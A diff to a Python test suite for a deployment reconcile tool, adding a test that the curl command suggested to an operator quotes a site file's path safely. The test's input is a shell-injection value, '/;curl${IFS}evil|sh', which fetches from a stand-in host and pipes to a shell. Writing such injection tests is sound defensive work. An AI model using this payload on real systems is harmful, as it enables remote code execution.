@@ -1,5 +1,7 @@
 """A site whose servers answer to their host name alone: `host` of the site file."""
 
+import re
+import shlex
 from collections.abc import Callable
 from dataclasses import replace
 
@@ -182,6 +184,18 @@ def test_the_live_system_is_left_alone_while_production_does_not_answer_to_the_h
     assert (HOST, 1.1) not in [
         value for pool, value in named(work).items() if pool.endswith("blue")
     ]
+
+
+def test_no_path_of_a_kept_site_file_runs_in_the_command_that_is_told(site: Site) -> None:
+    hostile = replace(site, identify=replace(site.identify, path="/;curl${IFS}evil|sh"))
+    work = start(replace(hostile, host=None))
+    reconcile.up(work)
+    addresses = {it.address for it in work.cloud.floating_ips.all()}
+    work.cloud.openstack.hosts = frozenset({None, *addresses})
+    with pytest.raises(NotSeen) as caught:
+        reconcile.up(replace(work, site=hostile, looks={}))
+    (told,) = re.findall(r"`(curl [^`]+)`", caught.value.cure)
+    assert shlex.split(told)[-1].endswith("/;curl${IFS}evil|sh")
 
 
 def test_a_release_compares_the_monitor_once_more_right_before_its_switch(site: Site) -> None:
